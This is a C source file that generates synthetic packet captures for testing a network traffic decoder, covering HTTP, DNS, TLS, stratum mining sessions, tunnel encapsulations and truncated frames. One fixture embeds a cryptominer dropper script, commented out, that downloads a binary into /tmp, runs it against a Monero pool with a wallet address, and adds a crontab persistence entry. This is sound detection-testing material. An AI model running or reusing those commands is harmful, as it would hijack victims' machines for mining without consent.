/*
 * pcapgen.c - writes the synthetic captures kept in pcaps/.
 *
 * `pcapgen SCENARIO OUT.pcap` writes one named scenario; `pcapgen --list`
 * names them all; tests/tools/gen_pcaps.sh regenerates every capture. This
 * file holds the application payloads (HTTP, DNS, TLS, stratum), the layer
 * stacks and the scenarios; packet building and the pcap writer are in
 * pktgen.c. Output is byte-identical on every run and host.
 *
 * It deliberately does not model real servers beyond what a decoder needs:
 * TLS records after the hellos are filler bytes, and the payloads are
 * inert (the shell script is all comments).
 */
#include <stdio.h>
#include <string.h>

#include "pktgen.h"

/* ---- application payloads ---- */

static const char http_get[] = "GET /xmr.sh HTTP/1.1\r\nHost: 10.0.0.80\r\nUser-Agent: "
                               "curl/7.88.1\r\nAccept: */*\r\n\r\n";

/* Inert: every command is a comment, so the bytes can be shared and scanned safely. */
static const char xmr_sh[] =
    "#!/bin/sh\n"
    "# firedamp test fixture: inert text, every command below is commented out\n"
    "# pkill -f xmrig\n"
    "# curl -s http://10.0.0.80/xmrig -o /tmp/.xm && chmod +x /tmp/.xm\n"
    "# /tmp/.xm -o pool.supportxmr.com:3333 -u 4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNg"
    "YeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge --donate-level 1\n"
    "# (crontab -l; echo \"* * * * * /tmp/.xm\") | crontab -\n"
    "exit 0\n";

static void http_response(struct wbuf *w)
{
    char hdr[128];
    int n = snprintf(hdr, sizeof(hdr),
                     "HTTP/1.1 200 OK\r\nContent-Type: text/x-sh\r\nContent-Length: %zu\r\n\r\n",
                     sizeof(xmr_sh) - 1);

    if (n < 0 || (size_t)n >= sizeof(hdr))
        die("http header");
    w->len = 0;
    wb_str(w, hdr);
    wb_str(w, xmr_sh);
}

static void dns_name(struct wbuf *w, const char *name)
{
    while (*name) {
        size_t n = strcspn(name, ".");
        wb_u8(w, (uint32_t)n);
        wb_mem(w, name, n);
        name += n + (name[n] == '.');
    }
    wb_u8(w, 0);
}

#define DNS_ID 0x4d2e

/*
 * A query for pool.supportxmr.com A, or its answer: a CNAME to
 * pool-eu.supportxmr.com (written as "pool-eu" + a pointer into the question)
 * and two A records whose owner name is a pointer to that CNAME target.
 */
static void dns_message(struct wbuf *w, bool response)
{
    static const uint8_t a1[4] = {192, 0, 2, 10}, a2[4] = {192, 0, 2, 11};
    const uint8_t *addrs[2] = {a1, a2};
    size_t rd, target;

    w->len = 0;
    wb_u16(w, DNS_ID);
    wb_u16(w, response ? 0x8180 : 0x0100);
    wb_u16(w, 1);
    wb_u16(w, response ? 3 : 0);
    wb_u16(w, 0);
    wb_u16(w, 0);
    dns_name(w, "pool.supportxmr.com"); /* at offset 12; "supportxmr" at 17 */
    wb_u16(w, 1);
    wb_u16(w, 1);
    if (!response)
        return;
    wb_u16(w, 0xc000 | 12);
    wb_u16(w, 5);
    wb_u16(w, 1);
    wb_u32(w, 300);
    rd = wb_open(w, 2);
    target = w->len;
    wb_u8(w, 7);
    wb_str(w, "pool-eu");
    wb_u16(w, 0xc000 | 17);
    wb_close(w, rd, 2);
    for (int i = 0; i < 2; i++) {
        wb_u16(w, 0xc000 | (uint32_t)target);
        wb_u16(w, 1);
        wb_u16(w, 1);
        wb_u32(w, 60);
        wb_u16(w, 4);
        wb_mem(w, addrs[i], 4);
    }
}

static void dns_exchange(struct gen *g, struct flow *f)
{
    struct wbuf w;

    dns_message(&w, false);
    udp_emit(g, f, 0, w.b, w.len);
    dns_message(&w, true);
    udp_emit(g, f, 1, w.b, w.len);
}

static void tls_ext(struct wbuf *w, uint32_t type, size_t *at)
{
    wb_u16(w, type);
    *at = wb_open(w, 2);
}

/*
 * A TLS 1.3 ClientHello in a TLS 1.0 record. JA3 skips the GREASE suite, so
 * the JA3 string is 771,4865-4866-4867-49195-49199,0-11-10-16-13-43-51,29-23-24,0.
 */
static void tls_client_hello(struct wbuf *w)
{
    static const uint16_t suites[] = {0x0a0a, 0x1301, 0x1302, 0x1303, 0xc02b, 0xc02f};
    static const uint16_t sigalgs[] = {0x0403, 0x0804, 0x0401, 0x0503, 0x0805, 0x0501};
    static const char sni[] = "xmr-eu1.nanopool.org";
    size_t rec, hs, l, exts, e, inner;

    w->len = 0;
    wb_u8(w, 0x16);
    wb_u16(w, 0x0301);
    rec = wb_open(w, 2);
    wb_u8(w, 1);
    hs = wb_open(w, 3);
    wb_u16(w, 0x0303);
    wb_noise(w, 32, 0xc11e);
    wb_u8(w, 32);
    wb_noise(w, 32, 0x5e55);
    l = wb_open(w, 2);
    for (size_t i = 0; i < sizeof(suites) / sizeof(suites[0]); i++)
        wb_u16(w, suites[i]);
    wb_close(w, l, 2);
    wb_u8(w, 1);
    wb_u8(w, 0);
    exts = wb_open(w, 2);

    tls_ext(w, 0, &e); /* server_name */
    inner = wb_open(w, 2);
    wb_u8(w, 0);
    wb_u16(w, sizeof(sni) - 1);
    wb_str(w, sni);
    wb_close(w, inner, 2);
    wb_close(w, e, 2);

    tls_ext(w, 11, &e); /* ec_point_formats: uncompressed */
    wb_u8(w, 1);
    wb_u8(w, 0);
    wb_close(w, e, 2);

    tls_ext(w, 10, &e); /* supported_groups: x25519, secp256r1, secp384r1 */
    wb_u16(w, 6);
    wb_u16(w, 0x001d);
    wb_u16(w, 0x0017);
    wb_u16(w, 0x0018);
    wb_close(w, e, 2);

    tls_ext(w, 16, &e); /* ALPN */
    inner = wb_open(w, 2);
    wb_u8(w, 8);
    wb_str(w, "http/1.1");
    wb_close(w, inner, 2);
    wb_close(w, e, 2);

    tls_ext(w, 13, &e); /* signature_algorithms */
    wb_u16(w, sizeof(sigalgs));
    for (size_t i = 0; i < sizeof(sigalgs) / sizeof(sigalgs[0]); i++)
        wb_u16(w, sigalgs[i]);
    wb_close(w, e, 2);

    tls_ext(w, 43, &e); /* supported_versions: 1.3, 1.2 */
    wb_u8(w, 4);
    wb_u16(w, 0x0304);
    wb_u16(w, 0x0303);
    wb_close(w, e, 2);

    tls_ext(w, 51, &e); /* key_share: x25519 */
    inner = wb_open(w, 2);
    wb_u16(w, 0x001d);
    wb_u16(w, 32);
    wb_noise(w, 32, 0x6b65);
    wb_close(w, inner, 2);
    wb_close(w, e, 2);

    wb_close(w, exts, 2);
    wb_close(w, hs, 3);
    wb_close(w, rec, 2);
}

static void tls_record(struct wbuf *w, uint32_t type, size_t len, uint32_t seed)
{
    wb_u8(w, type);
    wb_u16(w, 0x0303);
    wb_u16(w, (uint32_t)len);
    if (type == 0x14)
        wb_u8(w, 1);
    else
        wb_noise(w, len, seed);
}

/* ServerHello choosing TLS 1.3 and TLS_AES_128_GCM_SHA256, then CCS and encrypted flight. */
static void tls_server_flight(struct wbuf *w)
{
    size_t rec, hs, exts, e;

    w->len = 0;
    wb_u8(w, 0x16);
    wb_u16(w, 0x0303);
    rec = wb_open(w, 2);
    wb_u8(w, 2);
    hs = wb_open(w, 3);
    wb_u16(w, 0x0303);
    wb_noise(w, 32, 0x5e12);
    wb_u8(w, 32);
    wb_noise(w, 32, 0x5e55); /* echoes the client's legacy session id */
    wb_u16(w, 0x1301);
    wb_u8(w, 0);
    exts = wb_open(w, 2);
    tls_ext(w, 43, &e);
    wb_u16(w, 0x0304);
    wb_close(w, e, 2);
    tls_ext(w, 51, &e);
    wb_u16(w, 0x001d);
    wb_u16(w, 32);
    wb_noise(w, 32, 0x5eb7);
    wb_close(w, e, 2);
    wb_close(w, exts, 2);
    wb_close(w, hs, 3);
    wb_close(w, rec, 2);
    tls_record(w, 0x14, 1, 0);
    tls_record(w, 0x17, 412, 0xe1);
}

/*
 * The stacks, outermost layer first. S() counts the layers itself so a stack
 * cannot say it has more layers than it lists.
 */
// clang-format off
#define L(kind, id, type, flags) {(kind), (id), (type), (flags)}
#define S(name, linktype, ...) \
    static const struct stack name = {(linktype), \
        sizeof((struct layer[]){__VA_ARGS__}) / sizeof(struct layer), {__VA_ARGS__}}
// clang-format on
#define OUTER L(LK_ETH, 0, 0, LF_TUNNEL), L(LK_IPV4, 0, 0, 0)
S(st_eth, LINKTYPE_ETHER, L(LK_ETH, 0, 0, 0));
S(st_gre, LINKTYPE_ETHER, OUTER, L(LK_GRE, 42, 0, LF_GRE_KEY));
S(st_vlan, LINKTYPE_ETHER, L(LK_ETH, 0, 0, 0), L(LK_VLAN, 100, ETH_8021Q, 0));
S(st_qinq, LINKTYPE_ETHER, L(LK_ETH, 0, 0, 0), L(LK_VLAN, 200, ETH_8021AD, 0),
  L(LK_VLAN, 300, ETH_8021Q, 0));
S(st_mpls, LINKTYPE_ETHER, L(LK_ETH, 0, 0, 0), L(LK_MPLS, 1000, 0, 0), L(LK_MPLS, 2001, 0, 0));
S(st_gre_eth, LINKTYPE_ETHER, OUTER, L(LK_GRE, 0, 0, 0), L(LK_ETH, 0, 0, 0));
S(st_erspan2, LINKTYPE_ETHER, OUTER, L(LK_GRE, 0, 0, LF_GRE_SEQ), L(LK_ERSPAN2, 7, 0, 0),
  L(LK_ETH, 0, 0, 0));
S(st_erspan3, LINKTYPE_ETHER, OUTER, L(LK_GRE, 0, 0, LF_GRE_SEQ), L(LK_ERSPAN3, 9, 0, 0),
  L(LK_ETH, 0, 0, 0));
S(st_vxlan, LINKTYPE_ETHER, OUTER, L(LK_UDP, 0, PORT_VXLAN, 0), L(LK_VXLAN, 5001, 0, 0),
  L(LK_ETH, 0, 0, 0));
S(st_vxlan_vlan, LINKTYPE_ETHER, OUTER, L(LK_UDP, 0, PORT_VXLAN, 0), L(LK_VXLAN, 5001, 0, 0),
  L(LK_ETH, 0, 0, 0), L(LK_VLAN, 10, ETH_8021Q, 0));
S(st_geneve, LINKTYPE_ETHER, OUTER, L(LK_UDP, 0, PORT_GENEVE, 0), L(LK_GENEVE, 7001, 0, 0),
  L(LK_ETH, 0, 0, 0));
S(st_sll, LINKTYPE_SLL, L(LK_SLL, 0, 0, 0));
S(st_sll2, LINKTYPE_SLL2, L(LK_SLL2, 0, 0, 0));
S(st_null, LINKTYPE_NULL, L(LK_NULL, 0, 0, 0));
static const struct stack st_raw = {.linktype = LINKTYPE_RAW}; /* no layer: starts at IP */

/* ---- scenarios ---- */

static const char stratum_login[] =
    "{\"id\":1,\"method\":\"login\",\"params\":{\"login\":\"4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYf"
    "pAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge\",\"pass\":\"x\",\"agent\":\"XM"
    "Rig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/12.2.0\",\"algo\":[\"rx/0\"]}}\n";

/* The pool's answer: a job whose blob is a 76-byte Monero hashing blob, as hex. */
static const char stratum_result[] =
    "{\"id\":1,\"jsonrpc\":\"2.0\",\"error\":null,\"result\":{\"id\":\"a1b2c3d4e5f60718\","
    "\"job\":{\"blob\":\""
    "1010e4c3b5a006c0a1f2e3d4c5b6a798817263544536271809101112131415161718192021222300000000"
    "a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f80912a\","
    "\"job_id\":\"r4nd0mj0b1d00001\",\"target\":\"b88d0600\",\"algo\":\"rx/0\","
    "\"height\":2975210,"
    "\"seed_hash\":\"0c8f2a4d6e1b3c5a7f9e0d2c4b6a8f1e3d5c7b9a0f2e4d6c8b0a1f3e5d7c9b1a\"},"
    "\"extensions\":[\"algo\",\"nicehash\",\"connect\",\"tls\",\"keepalive\"],"
    "\"status\":\"OK\"}}\n";

static void http_session(struct gen *g, const struct seg *segs, size_t nsegs)
{
    struct tcp_conn c;
    struct wbuf resp;
    struct step steps[2] = {STEP(0, http_get), {1, resp.b, 0, segs, nsegs}};
    struct session_opts o = {true, true};

    http_response(&resp);
    steps[1].len = resp.len;
    tcp_conn_init(&c, 4, V4(10, 0, 0, 5), 43210, V4(10, 0, 0, 80), 80);
    session_run(g, &c, steps, 2, &o);
}

static void run_http_plain(struct gen *g)
{
    http_session(g, NULL, 0);
}

/* Response cut in 4; sent 1,3,2,4, then 2 again, then a segment overlapping 2 and 3. */
static void run_tcp_ooo(struct gen *g)
{
    struct wbuf resp;
    size_t q;

    http_response(&resp);
    q = resp.len / 4;
    {
        const struct seg segs[] = {
            {0, q}, {2 * q, q}, {q, q}, {3 * q, resp.len - 3 * q}, {q, q}, {q + q / 2, q},
        };
        http_session(g, segs, sizeof(segs) / sizeof(segs[0]));
    }
}

static void run_dns(struct gen *g)
{
    struct flow f;

    flow_init(&f, 4, V4(10, 0, 0, 5), 53000, V4(10, 0, 0, 53), 53);
    dns_exchange(g, &f);
}

/* The TLS session; `cut` lists the ClientHello's segments (NULL: MSS-sized). */
static void tls_session(struct gen *g, const size_t *cut, size_t ncut)
{
    struct tcp_conn c;
    struct wbuf ch, sf, cf, ca, sa;
    struct seg split[8];
    struct session_opts o = {true, true};

    tls_client_hello(&ch);
    tls_server_flight(&sf);
    cf.len = 0;
    tls_record(&cf, 0x14, 1, 0);
    tls_record(&cf, 0x17, 53, 0xcf); /* client Finished */
    ca.len = 0;
    tls_record(&ca, 0x17, 96, 0xca);
    sa.len = 0;
    tls_record(&sa, 0x17, 160, 0x5a);
    tls_record(&sa, 0x17, 24, 0x5b);
    /* cut[] holds (offset, length) pairs; a length of 0 means "to the end" */
    for (size_t i = 0; i < ncut && i < 8; i++)
        split[i] = (struct seg){cut[2 * i], cut[2 * i + 1] ? cut[2 * i + 1] : ch.len - cut[2 * i]};
    {
        const struct step steps[] = {
            {0, ch.b, ch.len, ncut ? split : NULL, ncut},
            {1, sf.b, sf.len, NULL, 0},
            {0, cf.b, cf.len, NULL, 0},
            {0, ca.b, ca.len, NULL, 0},
            {1, sa.b, sa.len, NULL, 0},
        };
        tcp_conn_init(&c, 4, V4(10, 0, 0, 5), 50001, V4(203, 0, 113, 7), 443);
        session_run(g, &c, steps, sizeof(steps) / sizeof(steps[0]), &o);
    }
}

static void run_tls(struct gen *g)
{
    tls_session(g, NULL, 0);
}

static void run_tls_split(struct gen *g)
{
    static const size_t cut[] = {0, 60, 60, 0};

    tls_session(g, cut, 2);
}

/* ClientHello in 3 segments sent 3, 1, 2, then 1 again (retransmission). */
static void run_tls_ooo(struct gen *g)
{
    static const size_t cut[] = {100, 0, 0, 50, 50, 50, 0, 50};

    tls_session(g, cut, 4);
}

static void run_midstream(struct gen *g)
{
    struct tcp_conn c;
    const struct step steps[] = {STEP(0, stratum_login), STEP(1, stratum_result)};
    struct session_opts o = {false, false};

    tcp_conn_init(&c, 4, V4(10, 0, 0, 5), 40000, V4(10, 0, 0, 9), 3333);
    session_run(g, &c, steps, 2, &o);
}

/* The encapsulation captures: the DNS exchange, then a short TCP session. */
static void mix(struct gen *g, int family)
{
    struct flow dns;
    struct tcp_conn c;
    const struct step steps[] = {STEP(0, "hello\n"), STEP(1, "world\n")};
    struct session_opts o = {true, true};

    if (family == 4) {
        flow_init(&dns, 4, V4(10, 0, 0, 5), 53000, V4(10, 0, 0, 53), 53);
        tcp_conn_init(&c, 4, V4(10, 0, 0, 5), 43300, V4(10, 0, 0, 80), 7000);
    } else {
        flow_init(&dns, 6, V6DOC(5), 53000, V6DOC(0x53), 53);
        tcp_conn_init(&c, 6, V6DOC(5), 43300, V6DOC(0x80), 7000);
        c.f.hbh = true;
    }
    dns_exchange(g, &dns);
    session_run(g, &c, steps, 2, &o);
}

static void run_mix4(struct gen *g)
{
    mix(g, 4);
}

static void run_mix6(struct gen *g)
{
    mix(g, 6);
}

static void run_fragments(struct gen *g)
{
    struct flow f;
    struct wbuf w = {.len = 0};
    char line[64];

    for (int i = 0; w.len < 2000; i++) {
        int n = snprintf(line, sizeof(line), "firedamp fragment test line %04d\n", i);
        wb_mem(&w, line, (size_t)n);
    }
    flow_init(&f, 4, V4(10, 0, 0, 5), 40500, V4(10, 0, 0, 9), 9999);
    udp_emit_frags(g, &f, 0, w.b, w.len, 1480);
}

/*
 * Frames the decoder must reject (and count), then an ARP frame and a pair of
 * tiny IPv4 fragments: nothing in here should produce an event.
 */
static void run_truncated(struct gen *g)
{
    struct tcp_conn c;
    struct flow f6;
    struct pkt p;
    struct wbuf w;
    struct pktinfo pi;
    size_t full;

    tcp_conn_init(&c, 4, V4(10, 0, 0, 5), 43210, V4(10, 0, 0, 80), 80);
    flow_init(&f6, 6, V6DOC(5), 43210, V6DOC(0x80), 80);
    pi = (struct pktinfo){0, &c.f.ep[0], &c.f.ep[1], c.f.hash, 0};
    dns_message(&w, false);

    /* 1: an Ethernet header announcing IPv4 and nothing after it, as received */
    pkt_init(&p, NULL, 0);
    p.ethertype = ETH_IPV4;
    stack_apply(g, &p, &pi);
    gen_write(g, &p, 14, 14);

    /* 2: IPv4 header cut at 12 bytes by a short snaplen (caplen < wire length) */
    pkt_init(&p, w.b, w.len);
    push_udp(&p, 53000, 53);
    flow_frame(g, &c.f, 0, &p);
    gen_write(g, &p, 14 + 12, pkt_len(&p));

    /* 3: TCP header cut at 10 bytes on the wire: the IPv4 total length claims 52 */
    pkt_init(&p, NULL, 0);
    push_tcp(&p, 43210, 80, c.nxt[0], 0, TCP_SYN);
    flow_frame(g, &c.f, 0, &p);
    gen_write(g, &p, 14 + 20 + 10, 14 + 20 + 10);

    /* 4: 802.1Q tag cut after the TCI */
    pkt_init(&p, NULL, 0);
    p.ethertype = ETH_IPV4;
    push_vlan(&p, ETH_8021Q, 100);
    push_eth(&p, c.f.ep[1].mac, c.f.ep[0].mac);
    gen_write(g, &p, 16, 16);

    /* 5: IPv6 header cut at 30 of 40 bytes */
    pkt_init(&p, NULL, 0);
    push_tcp(&p, 43210, 80, 1, 0, TCP_SYN);
    flow_frame(g, &f6, 0, &p);
    gen_write(g, &p, 14 + 30, 14 + 30);

    /* 6: VXLAN header cut at 4 of 8 bytes */
    g->stack = &st_vxlan;
    pkt_init(&p, NULL, 0);
    push_tcp(&p, 43210, 80, c.nxt[0], 0, TCP_SYN);
    flow_frame(g, &c.f, 0, &p);
    full = pkt_len(&p);
    gen_write(g, &p, 14 + 20 + 8 + 4, full);

    /* 7: GRE header with the key flag set, cut before the key */
    g->stack = &st_gre;
    pkt_init(&p, NULL, 0);
    push_tcp(&p, 43210, 80, c.nxt[0], 0, TCP_SYN);
    flow_frame(g, &c.f, 0, &p);
    gen_write(g, &p, 14 + 20 + 6, 14 + 20 + 6);
    g->stack = &st_eth;

    /* 8: ARP who-has 10.0.0.80 tell 10.0.0.5 */
    {
        static const uint8_t bcast[6] = {0xff, 0xff, 0xff, 0xff, 0xff, 0xff};
        struct wbuf a = {.len = 0};

        wb_u16(&a, 1);
        wb_u16(&a, ETH_IPV4);
        wb_u8(&a, 6);
        wb_u8(&a, 4);
        wb_u16(&a, 1);
        wb_mem(&a, c.f.ep[0].mac, 6);
        wb_mem(&a, c.f.ep[0].ip, 4);
        memset(wb_room(&a, 6), 0, 6);
        wb_mem(&a, c.f.ep[1].ip, 4);
        pkt_init(&p, a.b, a.len);
        p.ethertype = ETH_ARP;
        push_eth(&p, bcast, c.f.ep[0].mac);
        gen_write(g, &p, pkt_len(&p), pkt_len(&p));
    }

    /* 9, 10: the DNS query in two IPv4 fragments, the first only 16 bytes of payload */
    {
        struct flow f;

        flow_init(&f, 4, V4(10, 0, 0, 5), 53000, V4(10, 0, 0, 53), 53);
        udp_emit_frags(g, &f, 0, w.b, w.len, 16);
    }
}

struct scenario {
    const char *name;
    const struct stack *stack;
    void (*run)(struct gen *g);
    const char *what;
};

static const struct scenario scenarios[] = {
    {"tcp-http-plain", &st_eth, run_http_plain, "HTTP GET of a shell script, handshake to FIN"},
    {"dns-pool-query", &st_eth, run_dns, "DNS A query for a pool, CNAME + 2 A answer"},
    {"tls-sni", &st_eth, run_tls, "TLS 1.3 ClientHello with SNI/ALPN/GREASE, ServerHello, data"},
    {"tls-sni-split", &st_eth, run_tls_split, "tls-sni with the ClientHello in 60 + rest bytes"},
    {"tls-sni-ooo", &st_eth, run_tls_ooo, "tls-sni, ClientHello segments sent 3,1,2 + retransmit 1"},
    {"vlan", &st_vlan, run_mix4, "DNS + TCP in 802.1Q VLAN 100"},
    {"qinq", &st_qinq, run_mix4, "DNS + TCP in 802.1ad 200 / 802.1Q 300"},
    {"mpls", &st_mpls, run_mix4, "DNS + TCP under MPLS labels 1000, 2001"},
    {"gre", &st_gre, run_mix4, "DNS + TCP in GRE (key 42) over IPv4"},
    {"gre-eth", &st_gre_eth, run_mix4, "DNS + TCP in Ethernet in GRE (0x6558)"},
    {"erspan2", &st_erspan2, run_mix4, "DNS + TCP mirrored by ERSPAN II, session 7"},
    {"erspan3", &st_erspan3, run_mix4, "DNS + TCP mirrored by ERSPAN III, session 9"},
    {"vxlan", &st_vxlan, run_mix4, "DNS + TCP mirrored in VXLAN VNI 5001, per-flow sport"},
    {"vxlan-vlan", &st_vxlan_vlan, run_mix4, "vxlan with 802.1Q VLAN 10 in the inner frame"},
    {"geneve", &st_geneve, run_mix4, "DNS + TCP in Geneve VNI 7001 with one option"},
    {"sll", &st_sll, run_mix4, "DNS + TCP, Linux cooked capture v1"},
    {"sll2", &st_sll2, run_mix4, "DNS + TCP, Linux cooked capture v2"},
    {"raw", &st_raw, run_mix4, "DNS + TCP, raw IP link type"},
    {"null", &st_null, run_mix4, "DNS + TCP, BSD loopback (little-endian AF_INET)"},
    {"ipv6", &st_eth, run_mix6, "DNS + TCP over IPv6, hop-by-hop header before TCP"},
    {"tcp-ooo", &st_eth, run_tcp_ooo, "tcp-http-plain, response 1,3,2,4 + retransmit + overlap"},
    {"tcp-midstream", &st_eth, run_midstream, "stratum login and result, no handshake"},
    {"truncated-frames", &st_eth, run_truncated, "frames cut at each layer, ARP, tiny fragments"},
    {"fragments", &st_eth, run_fragments, "2013-byte UDP payload in IPv4 fragments of 1480 + 541"},
};

#define NSCENARIOS (sizeof(scenarios) / sizeof(scenarios[0]))

int main(int argc, char **argv)
{
    const struct scenario *sc = NULL;
    struct gen g;

    if (argc == 2 && strcmp(argv[1], "--list") == 0) {
        for (size_t i = 0; i < NSCENARIOS; i++)
            printf("%-18s %s\n", scenarios[i].name, scenarios[i].what);
        return 0;
    }
    if (argc != 3) {
        fprintf(stderr, "usage: pcapgen SCENARIO OUT.pcap | pcapgen --list\n");
        return 2;
    }
    for (size_t i = 0; i < NSCENARIOS; i++)
        if (strcmp(argv[1], scenarios[i].name) == 0)
            sc = &scenarios[i];
    if (!sc) {
        fprintf(stderr, "pcapgen: unknown scenario '%s' (see --list)\n", argv[1]);
        return 2;
    }
    gen_open(&g, argv[2], sc->stack);
    sc->run(&g);
    gen_close(&g);
    fprintf(stderr, "pcapgen: %s: %u packets\n", argv[2], g.npkts);
    return 0;
}
